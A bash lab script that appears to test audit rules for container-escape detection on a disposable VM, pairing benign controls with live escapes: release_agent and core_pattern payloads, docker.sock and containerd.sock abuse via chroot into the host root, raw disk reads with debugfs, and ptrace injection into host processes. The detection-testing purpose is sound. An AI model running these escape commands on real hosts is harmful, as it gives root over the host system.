#!/usr/bin/env bash
# Live container-escape lab (docs: tests/lab/README.md): real escapes and benign controls on this
# machine, captured by auditd (ENRICHED) and dockerd --debug.
#
#   sudo tests/lab/escape_lab.sh OUTDIR
#
# Root on a disposable Debian 12 VM (not in a container). Installs auditd and docker.io from Debian, builds the images
# offline (debootstrap), runs every scenario between audit markers, and tears everything down on exit, also after a
# failure: daemons stopped by pid, lab containers/images/state removed, audit rules removed and audit settings restored,
# sysctl and iptables restored, loop device detached, runc wrapper removed, lab keys unlinked.
# Exit 77 when a precondition is missing (the pytest then skips). Writes to OUTDIR: audit.log, dockerd.log,
# docker-events.jsonl, timeline.tsv (epoch, BEGIN|END, step, label, description), steps.log, restore.txt.
set -uo pipefail

OUT=${1:?usage: escape_lab.sh OUTDIR}
HERE=$(cd "$(dirname "$0")" && pwd)
TAG=t1611-live
WORK=/tmp/escape-lab.$$
CACHE=/var/cache/escape-lab
DOCKER=/usr/bin/docker            # Debian's CLI, never whatever else is first on PATH
mkdir -p "$OUT" "$WORK"
OUT=$(cd "$OUT" && pwd)
STEPLOG=$OUT/steps.log
TIMELINE=$OUT/timeline.tsv
: > "$STEPLOG"; : > "$TIMELINE"

say() { echo "escape_lab: $*" >&2; }
skip() { say "SKIP: $*"; exit 77; }

# ---- 1. preconditions and what teardown must restore -----------------------------------------------------------
[ "$(id -u)" = 0 ] || skip "needs root"
# Not /.dockerenv: VM root file systems built from an image keep that file. A container's pid 1 sits in a non-root cgroup.
if grep -qaE 'docker|kubepods|containerd|lxc' /proc/1/cgroup 2>/dev/null; then skip "runs in a container"; fi
command -v apt-get >/dev/null || skip "needs apt-get (Debian)"
for tool in auditctl dockerd containerd; do
  if pgrep -x "$tool" >/dev/null 2>&1; then skip "$tool is already running: this lab needs the machine to itself"; fi
done
if command -v auditctl >/dev/null && [ "$(auditctl -s | awk '/^pid/{print $2}')" != "0" ]; then
  skip "another process holds the audit netlink socket"
fi
if command -v auditctl >/dev/null && [ "$(auditctl -l 2>/dev/null)" != "No rules" ]; then skip "audit rules are already loaded"; fi

T0=$(date +%s)
say "apt-get update and install"
export DEBIAN_FRONTEND=noninteractive
apt-get update -qq >/dev/null 2>&1 || skip "apt-get update failed (no Debian mirror?)"
apt-get install -y -qq --no-install-recommends auditd keyutils debootstrap busybox-static docker.io containerd runc \
    iptables gcc libc6-dev e2fsprogs util-linux procps python3 >/dev/null 2>&1 || skip "package install failed"

AUDIT_ENABLED=$(auditctl -s | awk '/^enabled/{print $2}')
AUDIT_BACKLOG=$(auditctl -s | awk '/^backlog_limit/{print $2}')
AUDIT_WAIT=$(auditctl -s | awk '/^backlog_wait_time /{print $2}')
IP_FORWARD=$(sysctl -n net.ipv4.ip_forward)
iptables-save > "$WORK/iptables.before" 2>/dev/null || true
FORWARD_POLICY=$(iptables -S FORWARD 2>/dev/null | awk '/^-P FORWARD/{print $3}')
LOOPS_BEFORE=$(losetup -a | wc -l)
CAPBND=$(awk '/^CapBnd/{print $2}' /proc/self/status)
CORE_PATTERN=$(cat /proc/sys/kernel/core_pattern)
printf 'audit_enabled=%s\nbacklog_limit=%s\nbacklog_wait_time=%s\nip_forward=%s\nloops=%s\nCapBnd=%s\ncore_pattern=%s\n' \
  "$AUDIT_ENABLED" "$AUDIT_BACKLOG" "$AUDIT_WAIT" "$IP_FORWARD" "$LOOPS_BEFORE" "$CAPBND" "$CORE_PATTERN" > "$OUT/restore.txt"

FORWARD_POLICY=${FORWARD_POLICY:-}; AUDITD_PID=""; CONTAINERD_PID=""; DOCKERD_PID=""; EVENTS_PID=""; LOOP=""; WRAPPER=""
TARGET_PID=""
teardown() {
  set +e
  say "teardown"
  printf '%s\n' "$CORE_PATTERN" > /proc/sys/kernel/core_pattern
  [ -n "$TARGET_PID" ] && kill "$TARGET_PID" 2>/dev/null
  [ -n "$EVENTS_PID" ] && kill "$EVENTS_PID" 2>/dev/null
  if [ -n "$DOCKERD_PID" ]; then
    ids=$($DOCKER ps -aq --filter name=lab- 2>/dev/null); [ -n "$ids" ] && $DOCKER rm -f $ids >/dev/null 2>&1
    $DOCKER volume rm lab-data >/dev/null 2>&1
    $DOCKER rmi -f lab/debian:bookworm lab/busybox:latest >/dev/null 2>&1
    kill "$DOCKERD_PID" 2>/dev/null; for _ in $(seq 30); do kill -0 "$DOCKERD_PID" 2>/dev/null || break; sleep 0.5; done
  fi
  if [ -n "$CONTAINERD_PID" ]; then
    for c in $(ctr -n default containers ls -q 2>/dev/null); do
      ctr -n default tasks kill -s KILL "$c" >/dev/null 2>&1; ctr -n default tasks rm -f "$c" >/dev/null 2>&1
      ctr -n default containers rm "$c" >/dev/null 2>&1
    done
    kill "$CONTAINERD_PID" 2>/dev/null; for _ in $(seq 30); do kill -0 "$CONTAINERD_PID" 2>/dev/null || break; sleep 0.5; done
  fi
  for shim in $(pgrep -f containerd-shim-runc-v2); do kill "$shim" 2>/dev/null; done
  for d in /sys/fs/cgroup/*/; do
    [ -f "$d/release_agent" ] && [ -n "$(cat "$d/release_agent" 2>/dev/null)" ] && echo > "$d/release_agent"
    [ -d "$d/labx" ] && rmdir "$d/labx" 2>/dev/null
  done
  for table in filter nat; do iptables -t "$table" -F 2>/dev/null; iptables -t "$table" -X 2>/dev/null; done
  [ -n "$FORWARD_POLICY" ] && iptables -P FORWARD "$FORWARD_POLICY"
  [ -s "$WORK/iptables.before" ] && iptables-restore < "$WORK/iptables.before"
  ip link del docker0 2>/dev/null
  for veth in $(ip -o link show type veth 2>/dev/null | awk -F': ' '{print $2}' | cut -d@ -f1); do ip link del "$veth" 2>/dev/null; done
  sysctl -qw net.ipv4.ip_forward="$IP_FORWARD"
  if [ -n "$LOOP" ]; then umount "$WORK/mnt" 2>/dev/null; losetup -d "$LOOP"; fi
  [ -n "$WRAPPER" ] && rm -f "$WRAPPER"
  rmdir /run/user/4242 2>/dev/null
  keyctl purge user lab-key >/dev/null 2>&1; keyctl purge -s user lab-key >/dev/null 2>&1
  if [ -n "$AUDITD_PID" ]; then
    auditctl -D >/dev/null 2>&1
    kill "$AUDITD_PID" 2>/dev/null; for _ in $(seq 30); do kill -0 "$AUDITD_PID" 2>/dev/null || break; sleep 0.2; done
    cat "$WORK"/auditlog/audit.log.* "$WORK"/auditlog/audit.log 2>/dev/null > "$OUT/audit.log"
  fi
  auditctl -D >/dev/null 2>&1
  auditctl -b "$AUDIT_BACKLOG" --backlog_wait_time "$AUDIT_WAIT" -e "$AUDIT_ENABLED" >/dev/null 2>&1
  rm -rf /var/lib/docker /var/lib/containerd /run/docker /run/containerd /var/run/docker.sock /var/run/docker.pid
  rm -rf "$WORK"
  say "done in $(( $(date +%s) - T0 )) s"
}
trap teardown EXIT

# ---- 2. auditd without systemd ---------------------------------------------------------------------------------
mkdir -p "$WORK/auditconf" "$WORK/auditlog"
sed -e "s#^log_file.*#log_file = $WORK/auditlog/audit.log#" -e 's#^log_format.*#log_format = ENRICHED#' \
    -e 's#^max_log_file_action.*#max_log_file_action = keep_logs#' /etc/audit/auditd.conf > "$WORK/auditconf/auditd.conf"
chmod 0640 "$WORK/auditconf/auditd.conf"
auditd -n -c "$WORK/auditconf" > "$WORK/auditd.out" 2>&1 &
AUDITD_PID=$!
for _ in $(seq 50); do [ "$(auditctl -s | awk '/^pid/{print $2}')" = "$AUDITD_PID" ] && break; sleep 0.1; done
[ "$(auditctl -s | awk '/^pid/{print $2}')" = "$AUDITD_PID" ] || { say "auditd did not start: $(cat "$WORK/auditd.out")"; exit 77; }
auditctl -e 1 >/dev/null
# The rules the add-on ships (docs/audit-rules.md) and their per-host companion, made by the documented command.
RULES="$HERE/../../package/README/escape_to_host.rules"
auditctl -R "$RULES" >/dev/null || { say "auditctl -R $RULES failed"; exit 1; }
COMPANION=$(sed -n 's/^##   \(for f in .*release_agent.*\) > .*/\1/p' "$RULES")
[ -n "$COMPANION" ] || { say "no companion command in $RULES"; exit 1; }
sh -c "$COMPANION" > "$WORK/companion.rules"
if [ -s "$WORK/companion.rules" ]; then auditctl -R "$WORK/companion.rules" >/dev/null || { say "companion rules failed"; exit 1; }; fi
# The opt-in rules the file ships commented out with a single '#' (the runtime-socket connect rules): the lab loads
# them too, so every documented rule is exercised; a replay can drop their records to see what is lost without them.
sed -n 's/^#\(-a .*\)$/\1/p' "$RULES" > "$WORK/optin.rules"
if [ -s "$WORK/optin.rules" ]; then auditctl -R "$WORK/optin.rules" >/dev/null || { say "opt-in rules failed"; exit 1; }; fi
cat "$RULES" "$WORK/companion.rules" "$WORK/optin.rules" > "$OUT/rules.loaded"

marker() { auditctl -m "$TAG marker: $*"; }
STEP=0
step() {  # step ID LABEL DESCRIPTION -- command...
  local id=$1 label=$2 description=$3; shift 4
  local begin end rc
  begin=$(date +%s.%N); marker "BEGIN $id $label $description"
  printf '%s\tBEGIN\t%s\t%s\t%s\n' "$begin" "$id" "$label" "$description" >> "$TIMELINE"
  { echo "=== $begin BEGIN $id $label $description"; echo "+ $*"; } >> "$STEPLOG"
  timeout 60 "$@" >> "$STEPLOG" 2>&1; rc=$?
  end=$(date +%s.%N); marker "END $id rc=$rc"
  printf '%s\tEND\t%s\t%s\t%s\n' "$end" "$id" "$label" "rc=$rc" >> "$TIMELINE"
  echo "=== $end END $id rc=$rc" >> "$STEPLOG"
  sleep 1
}

# ---- 3. containerd and dockerd ----------------------------------------------------------------------------------
if [ $(( 0x$CAPBND >> 24 & 1 )) = 0 ]; then
  WRAPPER=/usr/local/sbin/runc
  gcc -O2 -o "$WRAPPER" "$HERE/runc-capfix.c" || { say "runc wrapper build failed"; exit 1; }
fi
PATH=/usr/local/sbin:/usr/sbin:/usr/bin:/sbin:/bin containerd --log-level info > "$OUT/containerd.log" 2>&1 &
CONTAINERD_PID=$!
sleep 2
PATH=/usr/local/sbin:/usr/sbin:/usr/bin:/sbin:/bin dockerd --debug --containerd=/run/containerd/containerd.sock > "$OUT/dockerd.log" 2>&1 &
DOCKERD_PID=$!
for _ in $(seq 60); do $DOCKER info >/dev/null 2>&1 && break; sleep 0.5; done
$DOCKER info >/dev/null 2>&1 || { say "dockerd did not answer: $(tail -5 "$OUT/dockerd.log")"; exit 1; }

# ---- 4. images without a registry -------------------------------------------------------------------------------
mkdir -p "$CACHE"
if [ ! -s "$CACHE/bookworm-minbase.tar" ]; then
  say "debootstrap (about 30 s, cached afterwards)"
  debootstrap --variant=minbase --include=util-linux,keyutils,procps,e2fsprogs,mount bookworm "$WORK/rootfs" \
      http://deb.debian.org/debian > "$WORK/debootstrap.log" 2>&1 || { say "debootstrap failed"; exit 77; }
  tar -C "$WORK/rootfs" -cf "$CACHE/bookworm-minbase.tar" . && rm -rf "$WORK/rootfs"
fi
mkdir -p "$WORK/rootfs" "$WORK/busybox/bin"
tar -C "$WORK/rootfs" -xf "$CACHE/bookworm-minbase.tar"
gcc -O2 -o "$WORK/rootfs/usr/local/bin/shocker" "$HERE/shocker.c"
gcc -O2 -o "$WORK/rootfs/usr/local/bin/families" "$HERE/families.c"
cp "$WORK/rootfs/usr/local/bin/families" "$WORK/families"
cp /usr/bin/docker "$WORK/rootfs/usr/local/bin/docker"
cp /usr/bin/ctr "$WORK/rootfs/usr/local/bin/ctr"   # containerd's own client (Debian's containerd package)
tar -C "$WORK/rootfs" -c . | $DOCKER import -c 'CMD ["/bin/bash"]' - lab/debian:bookworm >/dev/null
cp /bin/busybox "$WORK/busybox/bin/busybox"
for applet in sh echo cat ls id chroot httpd ps wc hostname sleep mount; do ln -sf busybox "$WORK/busybox/bin/$applet"; done
tar -C "$WORK/busybox" -c . | $DOCKER import -c 'CMD ["/bin/sh"]' - lab/busybox:latest >/dev/null
# The same image in containerd's own namespace, for ctr (docker keeps its images in the namespace "moby").
$DOCKER save lab/busybox:latest | ctr -n default images import - >/dev/null || { say "ctr images import failed"; exit 1; }
CTR_IMAGE=$(ctr -n default images ls -q | grep -m1 'lab/busybox')
[ -n "$CTR_IMAGE" ] || { say "no lab/busybox image in containerd's default namespace"; exit 1; }

# A stand-in host disk (the VM refuses /dev/vda even to root).
truncate -s 64M "$WORK/disk.img"
mkfs.ext4 -q -F "$WORK/disk.img"
mkdir -p "$WORK/mnt"
LOOP=$(losetup -f --show "$WORK/disk.img")
mount "$LOOP" "$WORK/mnt" && mkdir -p "$WORK/mnt/etc" && echo "root:STAND-IN:19000::::::" > "$WORK/mnt/etc/shadow" \
  && echo lab-host-disk > "$WORK/mnt/etc/hostname" && umount "$WORK/mnt"
mkdir -p "$WORK/benign-data" && echo harmless > "$WORK/benign-data/readme.txt"

$DOCKER events --format '{{json .}}' > "$OUT/docker-events.jsonl" 2>/dev/null &
EVENTS_PID=$!
say "scenarios (preparation took $(( $(date +%s) - T0 )) s)"
marker "phase=scenarios start"

# ---- 5. scenarios -----------------------------------------------------------------------------------------------
D="$DOCKER run --name"
step B01 benign "short-lived default container" -- $D lab-b01 lab/busybox echo hello
step B02 benign "detached service container" -- $D lab-b02 -d lab/busybox httpd -f -p 8080
step B03 benign "docker exec ps in the running container" -- $DOCKER exec lab-b02 ps
step B04 benign "named volume" -- $D lab-b04 -v lab-data:/data lab/debian:bookworm sh -c 'echo x > /data/f; grep /data /proc/mounts'
step B05 benign "read-only bind of a harmless host directory" -- $D lab-b05 -v "$WORK/benign-data:/data:ro" lab/busybox cat /data/readme.txt
step B06 benign "hardened container" -- $D lab-b06 --cap-drop ALL --read-only lab/busybox id
B02PID=$($DOCKER inspect -f '{{.State.Pid}}' lab-b02)
step B07 benign-ambiguous "host admin nsenter into the container's uts namespace" -- nsenter -t "$B02PID" -u hostname
step B08 benign "stop the service container" -- $DOCKER stop -t 2 lab-b02
mkdir -p "$WORK/chroot/proc" "$WORK/chroot/bin" && cp /bin/busybox "$WORK/chroot/bin/" && ln -sf busybox "$WORK/chroot/bin/sh" && ln -sf busybox "$WORK/chroot/bin/ls"
step B09 benign "host package-manager style bind /proc + chroot" -- sh -c "mount --bind /proc $WORK/chroot/proc && chroot $WORK/chroot /bin/sh -c 'ls /proc/1 >/dev/null && echo ok'; umount $WORK/chroot/proc"
mkdir -p "$WORK/priv"
step B10 benign "host PrivateTmp-style unshare --mount + tmpfs" -- unshare --mount --propagation private sh -c "mount -t tmpfs tmpfs $WORK/priv && touch $WORK/priv/x && umount $WORK/priv"
step B11 benign "host session keyring" -- keyctl session - sh -c 'keyctl add user lab-key value @s; keyctl show @s'
step B12 benign "host rootless-style unshare -U -r" -- unshare -U -r id
mkdir -p /run/user/4242
step H01 benign "host tmpfs at /run/user/<uid> as systemd-logind does" -- sh -c 'mount -t tmpfs -o mode=0700,size=1m tmpfs /run/user/4242 && umount /run/user/4242'
step E01b attempt "pid=host without privileges: nsenter -t 1" -- $D lab-e01b --pid=host lab/debian:bookworm nsenter -t 1 -m -u -i -n -p -- /bin/sh -c id
step E01 escape "privileged pid=host: nsenter into containerd's namespaces" -- $D lab-e01 --privileged --pid=host lab/debian:bookworm sh -c 'T=$(pgrep -xo containerd); nsenter -t $T -m -u -i -n -p -- /bin/sh -c "id; hostname; cat /etc/hostname"'
step E02 escape "host root bind -v /:/host + chroot" -- $D lab-e02 -v /:/host lab/debian:bookworm chroot /host /bin/sh -c 'id; cat /etc/hostname'
step E03 escape "privileged: mount the stand-in host disk + debugfs" -- $D lab-e03 --privileged lab/debian:bookworm sh -c "mkdir -p /mnt/hostdisk && mount -o ro $LOOP /mnt/hostdisk && cat /mnt/hostdisk/etc/shadow; umount /mnt/hostdisk; debugfs -R 'cat /etc/hostname' $LOOP"
step E04 escape "docker.sock: privileged child with / bound, chroot" -- $D lab-e04 -v /var/run/docker.sock:/var/run/docker.sock lab/debian:bookworm docker run --name lab-e04-child --privileged -v /:/host lab/busybox chroot /host /bin/sh -c 'id; cat /etc/hostname'
step E05 escape "cgroup v1 release_agent (freezer)" -- $D lab-e05 --privileged lab/debian:bookworm sh -c 'd=/tmp/cgrp; mkdir -p $d && mount -t cgroup -o freezer cgroup $d && mkdir -p $d/labx && echo 1 > $d/labx/notify_on_release && host_path=$(sed -n "s/.*upperdir=\([^,]*\).*/\1/p" /proc/self/mounts | head -1) && echo "$host_path/cmd" > $d/release_agent && printf "#!/bin/sh\nid > $host_path/output\ncat /proc/self/cgroup >> $host_path/output\n" > /cmd && chmod a+x /cmd && sh -c "echo \$\$ > $d/labx/cgroup.procs" && sleep 2; cat /output; rmdir $d/labx; echo > $d/release_agent; umount $d'
step E06a attempt "unshare in a default container (seccomp)" -- $D lab-e06a lab/debian:bookworm sh -c 'unshare -U id; unshare -r id; unshare -m true; echo done'
step E06b suspicious "unshare in a privileged container" -- $D lab-e06b --privileged lab/debian:bookworm sh -c 'unshare -U id; unshare -m -p -f --mount-proc true; echo done'
step E07a attempt "keyctl in a default container (seccomp)" -- $D lab-e07a lab/debian:bookworm sh -c 'keyctl show @s; keyctl add user k1 v1 @s; echo done'
step E07b suspicious "keyctl in a privileged container (host user keyring)" -- $D lab-e07b --privileged lab/debian:bookworm sh -c 'keyctl show @u; keyctl add user lab-key v1 @u; keyctl search @u user lab-key; echo done'
step E08 suspicious "Shocker open_by_handle_at with DAC_READ_SEARCH" -- $D lab-e08 --cap-add DAC_READ_SEARCH lab/debian:bookworm shocker /etc/hosts
step E09 suspicious "SYS_ADMIN + seccomp=unconfined: cgroup mount" -- $D lab-e09 --cap-add SYS_ADMIN --security-opt seccomp=unconfined lab/debian:bookworm sh -c 'mkdir -p /tmp/c && mount -t cgroup -o freezer cgroup /tmp/c && cat /tmp/c/release_agent; umount /tmp/c'
# ---- 6. escape families of issue 20, each with a benign twin --------------------------------------------------
# Usermode helpers: the kernel runs core_pattern's pipe program in the host's namespaces, as root, child of kthreadd.
printf '#!/bin/sh\ncat > /dev/null\ndate > /dev/null\n' > "$WORK/crash-handler.sh" && chmod 0755 "$WORK/crash-handler.sh"
step B16 benign "host admin pipes core dumps to a host crash handler, a container process crashes" -- sh -c "echo '|$WORK/crash-handler.sh %p' > /proc/sys/kernel/core_pattern && $D lab-b16 lab/debian:bookworm sh -c 'ulimit -c unlimited; sh -c \"kill -SEGV \\\$\\\$\"; sleep 1; echo crashed'; rc=\$?; printf '%s\\n' '$CORE_PATTERN' > /proc/sys/kernel/core_pattern; exit \$rc"
step E10 escape "privileged: core_pattern pipe to a payload in the container's upperdir, then a crash" -- $D lab-e10 --privileged lab/debian:bookworm sh -c 'up=$(sed -n "s/.*upperdir=\([^,]*\).*/\1/p" /proc/self/mounts | head -1); printf "#!/bin/sh\nid > $up/core-out\nhostname >> $up/core-out\n" > /cmd; chmod a+x /cmd; echo "|$up/cmd %p" > /proc/sys/kernel/core_pattern; ulimit -c unlimited; sh -c "kill -SEGV \$\$"; sleep 2; cat /core-out; echo core > /proc/sys/kernel/core_pattern'
printf '%s\n' "$CORE_PATTERN" > /proc/sys/kernel/core_pattern
# Raw device access without a mount: a node for the stand-in host disk, read with debugfs.
MAJ=$(( 0x$(stat -c %t "$LOOP") )); MIN=$(( 0x$(stat -c %T "$LOOP") ))
step E12 escape "default caps + device-cgroup-rule b *:* rwm: mknod of the host disk, debugfs reads it (no mount)" -- $D lab-e12 --device-cgroup-rule 'b *:* rwm' lab/debian:bookworm sh -c "mknod /tmp/hd b $MAJ $MIN && debugfs -R 'cat /etc/hostname' /tmp/hd"
step E12a attempt "default caps, no device-cgroup rule: mknod works, the device cgroup refuses the open" -- $D lab-e12a lab/debian:bookworm sh -c "mknod /tmp/hd b $MAJ $MIN && debugfs -R 'cat /etc/hostname' /tmp/hd"
step B17 benign "host admin runs debugfs on a disk" -- debugfs -R 'cat /etc/hostname' "$LOOP"
step B18 benign "container creates a harmless character device node (1:3, null)" -- $D lab-b18 lab/debian:bookworm sh -c 'mknod /tmp/null c 1 3 && echo x > /tmp/null && echo ok'
# Host process injection: a host process the container reaches through --pid=host.
sleep 600 & TARGET_PID=$!
step E13 escape "pid=host + SYS_PTRACE: ptrace poke and process_vm_writev into a host process" -- $D lab-e13 --pid=host --cap-add SYS_PTRACE lab/debian:bookworm families inject "$TARGET_PID"
step B19 benign "debugger container (SYS_PTRACE) tracing its own child" -- $D lab-b19 --cap-add SYS_PTRACE lab/debian:bookworm families trace-self
kill "$TARGET_PID" 2>/dev/null; TARGET_PID=""
# Kernel code: eBPF program loads and module loads (this kernel has no module support: ENOSYS).
step E14 suspicious "privileged: bpf program load" -- $D lab-e14 --privileged lab/debian:bookworm families bpf
step E14a attempt-unseen "default container: bpf program load refused by seccomp (no audit record)" -- $D lab-e14a lab/debian:bookworm families bpf
step B20 benign "host agent loads a bpf program" -- "$WORK/families" bpf
step E15 attempt "privileged: finit_module/init_module (refused: ENOSYS without module support)" -- $D lab-e15 --privileged lab/debian:bookworm families module
# Runtime sockets beyond docker: containerd's socket mounted into a container that has containerd's client `ctr`.
# ctr builds an image's spec on the client side, mounting the image's snapshot to read its /etc/group, which a default
# container cannot do (and the snapshot's paths are the host's); --rootfs names a root the runtime uses as it is. The
# container finds its own root as the host sees it (overlay `merged`, from the upperdir in /proc/self/mounts) and
# hands that. ctr gives the task FIFOs of its own file system for stdio, which the host's shim cannot open: --null-io,
# and the host commands write into a host file that the step prints. Such a spec has no PATH: commands by full path.
# The container-side scripts come from a read-only bind of a host directory.
SOCK=/run/containerd/containerd.sock
mkdir -p "$WORK/ctr-lab"
HOSTRUN="id > $WORK/ctr-out; hostname >> $WORK/ctr-out; cat /etc/hostname >> $WORK/ctr-out"
MERGED='m=$(sed -n "s/.*upperdir=\([^,]*\)\/diff.*/\1/p" /proc/self/mounts | head -1)/merged'
cat > "$WORK/ctr-lab/e16.sh" <<EOF
$MERGED
exec ctr run --rm --null-io --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw --rootfs "\$m" lab-e16-child /usr/sbin/chroot /host /bin/sh -c "$HOSTRUN"
EOF
cat > "$WORK/ctr-lab/e16a.sh" <<EOF
$MERGED
printf '#!/bin/sh\n/usr/sbin/chroot /host /bin/sh -c "$HOSTRUN"\n' > /tmp/host.sh
cp /usr/local/bin/ctr /tmp/x
/tmp/x containers create --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw --rootfs "\$m" lab-e16a-child /bin/sh /tmp/host.sh || exit 1
/tmp/x tasks start --null-io lab-e16a-child; rc=\$?
/tmp/x containers rm lab-e16a-child
exit \$rc
EOF
step E16 escape "containerd.sock + ctr: ctr run --privileged, the host's / bound at /host, chroot, host commands" -- sh -c "$D lab-e16 -v $SOCK:$SOCK -v $WORK/ctr-lab:/lab:ro lab/debian:bookworm sh /lab/e16.sh; rc=\$?; cat $WORK/ctr-out; rm -f $WORK/ctr-out; exit \$rc"
step E16a escape "containerd.sock + ctr copied to /tmp/x: container create with the host's / bound, then task start by id" -- sh -c "$D lab-e16a -v $SOCK:$SOCK -v $WORK/ctr-lab:/lab:ro lab/debian:bookworm sh /lab/e16a.sh; rc=\$?; cat $WORK/ctr-out; rm -f $WORK/ctr-out; exit \$rc"
step B21 benign "monitoring container with containerd.sock: ctr version, containers ls, tasks ls, images ls" -- $D lab-b21 -v $SOCK:$SOCK lab/debian:bookworm sh -c 'ctr version; ctr containers ls; ctr tasks ls; ctr images ls -q'
step B22 benign "host admin: ctr run of a plain container, containers ls" -- sh -c "ctr run --rm --null-io $CTR_IMAGE lab-b22 echo hello && ctr containers ls"
step B14 benign-ambiguous "privileged agent-like container, no escape syscalls" -- $D lab-b14 --privileged lab/busybox sh -c 'ls /dev | wc -l'
step B15 benign "short-lived default container after the attacks" -- $D lab-b15 lab/busybox echo end
marker "phase=scenarios end"
say "scenarios done after $(( $(date +%s) - T0 )) s"
exit 0
